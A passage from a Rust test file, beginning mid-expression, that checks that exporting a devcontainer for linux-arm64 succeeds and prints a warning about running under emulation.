                ),
            ),
        ])
    );
    // A devcontainer for another platform is written, and says it will
    // run under emulation.
    let out = export(&m, &["devcontainer", "--os", "linux", "--arch", "arm64"]);
    assert_success(&out);
    assert!(
        stderr(&out).contains("runs linux-arm64 under emulation"),
        "{}",
        stderr(&out)
    );
}
